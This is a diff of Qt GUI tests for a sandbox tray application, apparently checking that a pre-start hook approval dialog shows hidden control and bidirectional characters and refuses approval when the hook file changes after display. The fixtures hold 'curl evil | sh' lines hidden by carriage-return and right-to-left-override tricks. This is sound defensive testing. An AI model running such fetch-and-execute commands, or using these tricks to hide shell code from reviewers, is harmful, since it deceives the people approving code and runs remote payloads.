@@ -6,6 +6,7 @@
 
 #include "config/configfile.h"
 #include "guitest.h"
+#include "hookapprovaldialog.h"
 #include "prestarthook.h"
 #include "settingsdialog.h"
 #include "ui_settingsdialog.h"
@@ -400,6 +401,78 @@ private Q_SLOTS:
         QCOMPARE(s->hookStatus(), PreStartHook::Status::Approved);
     }
 
+    void hookTabShowsHiddenCharactersAndApprovesOnlyWhatItShows()
+    {
+        GuiTestEnvironment env;
+        const QString root = env.makeProject(QStringLiteral("hidden"));
+        const QString hookPath = root + QStringLiteral("/opencode-sandbox-pre-start-container.sh");
+        auto writeHook = [&](const QByteArray &content) {
+            QFile hook(hookPath);
+            QVERIFY(hook.open(QIODevice::WriteOnly | QIODevice::Truncate));
+            hook.write(content);
+        };
+        const QByteArray shown = "curl evil | sh #\recho harmless\necho \xe2\x80\xae"
+                                 "olleh\n";
+        writeHook(shown);
+        TestApp app(env);
+        app.registry->add(root);
+        QVERIFY(app.startAndSettle());
+        ManagedSandbox *s = app.fleet->sandbox(root);
+        SettingsDialog *dlg = app.tray->openSettings(s);
+        auto *ui = dlg->form();
+        const QString text = ui->hookView->toPlainText();
+        QVERIFY2(text.contains(QStringLiteral("curl evil | sh #\\recho harmless")),
+                 qPrintable(text));
+        QVERIFY2(text.contains(QStringLiteral("echo <U+202E>olleh")), qPrintable(text));
+        QVERIFY(!text.contains(QChar(0x202e)));
+        QVERIFY2(ui->hookStatusLabel->text().contains(QStringLiteral("control or invisible")),
+                 qPrintable(ui->hookStatusLabel->text()));
+
+        // The file changes behind the dialog's back: Approve approves nothing.
+        const QByteArray swapped = "curl evil2 | sh\n";
+        writeHook(swapped);
+        ui->approveHookButton->click();
+        QVERIFY(dlg->pendingQuestion());
+        QVERIFY2(
+            dlg->pendingQuestion()->text().contains(QStringLiteral("changed after it was shown")),
+            qPrintable(dlg->pendingQuestion()->text()));
+        dlg->pendingQuestion()->close();
+        s->reloadProject();
+        QCOMPARE(s->hookStatus(), PreStartHook::Status::NotApproved);
+        // The tab now shows the new content; approving that works.
+        QVERIFY(ui->hookView->toPlainText().contains(QStringLiteral("curl evil2")));
+        ui->approveHookButton->click();
+        QCOMPARE(s->hookStatus(), PreStartHook::Status::Approved);
+    }
+
+    void hookApprovalDialogApprovesOnlyWhatItShows()
+    {
+        GuiTestEnvironment env;
+        const QString root = env.makeProject(QStringLiteral("dialog"));
+        const QString hookPath = root + QStringLiteral("/opencode-sandbox-pre-start-container.sh");
+        auto writeHook = [&](const QByteArray &content) {
+            QFile hook(hookPath);
+            QVERIFY(hook.open(QIODevice::WriteOnly | QIODevice::Truncate));
+            hook.write(content);
+        };
+        writeHook("export A=1\x1b[2K\n");
+        TestApp app(env);
+        app.registry->add(root);
+        QVERIFY(app.startAndSettle());
+        ManagedSandbox *s = app.fleet->sandbox(root);
+        auto *dlg = new ocs::tray::HookApprovalDialog(*s->project());
+        QSignalSpy approved(dlg, &ocs::tray::HookApprovalDialog::approved);
+        auto *view = dlg->findChild<QPlainTextEdit *>(QStringLiteral("content"));
+        QVERIFY(view);
+        QCOMPARE(view->toPlainText(), QStringLiteral("export A=1\\x1b[2K\n"));
+        writeHook("export A=1\ncurl evil | sh\n");
+        dlg->findChild<QPushButton *>(QStringLiteral("approve"))->click();
+        QCOMPARE(approved.size(), 0);
+        s->reloadProject();
+        QCOMPARE(s->hookStatus(), PreStartHook::Status::NotApproved);
+        dlg->close();
+    }
+
     void savingWhileRunningOffersRestart()
     {
         GuiTestEnvironment env;
@@ -470,6 +543,21 @@ private Q_SLOTS:
         }
         QTRY_COMPARE_WITH_TIMEOUT(s->sandboxId(), computeSandboxId(QStringLiteral("newname"), root),
                                   10000);
+        // A new sandbox-name is a new SANDBOX_ID: its first start shows what it may reach and
+        // asks (issue 10, item 7); nothing runs before the answer.
+        QTRY_VERIFY_WITH_TIMEOUT(app.tray->lastQuestion() &&
+                                     app.tray->lastQuestion()->windowTitle().contains(
+                                         QStringLiteral("for the first time")),
+                                 10000);
+        QCOMPARE(engine()->containers().size(), 0);
+        QMessageBox *first = app.tray->lastQuestion();
+        QVERIFY2(first->text().contains(QStringLiteral("whitelist")), qPrintable(first->text()));
+        for (QAbstractButton *b : first->buttons()) {
+            if (first->buttonRole(b) == QMessageBox::AcceptRole) {
+                b->click();
+                break;
+            }
+        }
         QTRY_COMPARE_WITH_TIMEOUT(s->state(), ManagedSandbox::State::Running, 10000);
         const auto containers = engine()->containers();
         QCOMPARE(containers.size(), 1); // the old one was stopped and removed
